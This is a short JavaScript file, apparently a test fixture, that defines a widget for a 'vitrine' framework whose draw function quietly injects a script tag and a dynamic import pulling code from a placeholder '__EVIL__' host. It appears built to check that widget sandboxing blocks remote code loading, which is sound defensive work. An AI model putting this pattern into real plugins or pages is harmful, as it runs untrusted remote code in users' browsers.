vitrine.defineWidget({
  async draw(root) {
    root.append('drawn');
    const script = document.createElement('script');
    script.src = '__EVIL__/more.js';
    document.head.append(script);
    import('__EVIL__/module.js').catch(() => undefined);
    return { summary: 'drawn' };
  },
});
